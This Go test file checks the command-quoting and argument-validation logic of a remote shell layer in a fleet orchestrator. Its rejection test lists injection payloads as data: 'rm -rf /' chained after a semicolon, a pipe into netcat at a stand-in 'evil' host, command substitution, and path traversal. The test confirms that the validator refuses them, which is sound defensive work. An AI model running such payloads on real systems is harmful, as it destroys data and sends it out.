package remote

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sorenmh/infrastructure-shared/fleet-orchestrator/models"
)

func TestShellFor(t *testing.T) {
	assert.Equal(t, models.PlatformPosix, ShellFor(models.PlatformPosix).Platform())
	assert.Equal(t, models.PlatformWindowsRemoteShell, ShellFor(models.PlatformWindowsRemoteShell).Platform())
}

func TestPosixScript(t *testing.T) {
	sh := ShellFor(models.PlatformPosix)

	script, err := sh.Script("", "git", "fetch", "origin")
	require.NoError(t, err)
	assert.Equal(t, "'git' 'fetch' 'origin'", script)

	script, err = sh.Script("/opt/deploy/app", "git", "checkout", "main")
	require.NoError(t, err)
	assert.Equal(t, "cd '/opt/deploy/app' && 'git' 'checkout' 'main'", script)
}

func TestPosixScriptQuotesValues(t *testing.T) {
	sh := ShellFor(models.PlatformPosix)

	script, err := sh.Script("", "echo", "it's a test")
	require.NoError(t, err)
	assert.Equal(t, `'echo' 'it'"'"'s a test'`, script)
}

func TestWindowsScript(t *testing.T) {
	sh := ShellFor(models.PlatformWindowsRemoteShell)

	script, err := sh.Script("C:/deploy/app", "git", "pull")
	require.NoError(t, err)
	assert.Equal(t, `cd /d "C:/deploy/app" && git pull`, script)

	script, err = sh.Script("", "echo", "two words")
	require.NoError(t, err)
	assert.Equal(t, `echo "two words"`, script)
}

func TestScriptRejectsUnsafeArgv(t *testing.T) {
	tests := []struct {
		name string
		dir  string
		argv []string
	}{
		{"semicolon arg", "", []string{"git", "pull; rm -rf /"}},
		{"pipe arg", "", []string{"cat", "x | nc evil 99"}},
		{"substitution", "", []string{"echo", "$(whoami)"}},
		{"backtick", "", []string{"echo", "`id`"}},
		{"bad dir", "/opt/../etc", []string{"ls"}},
		{"dir with metachar", "/opt; rm", []string{"ls"}},
		{"empty argv", "/opt/app", nil},
	}

	for _, sh := range []Shell{ShellFor(models.PlatformPosix), ShellFor(models.PlatformWindowsRemoteShell)} {
		for _, tt := range tests {
			t.Run(string(sh.Platform())+"/"+tt.name, func(t *testing.T) {
				_, err := sh.Script(tt.dir, tt.argv...)
				require.Error(t, err)

				var cve *models.CommandValidationError
				assert.ErrorAs(t, err, &cve)
			})
		}
	}
}

func TestWindowsQuote(t *testing.T) {
	sh := ShellFor(models.PlatformWindowsRemoteShell)
	assert.Equal(t, `"say ""hi"""`, sh.Quote(`say "hi"`))
}
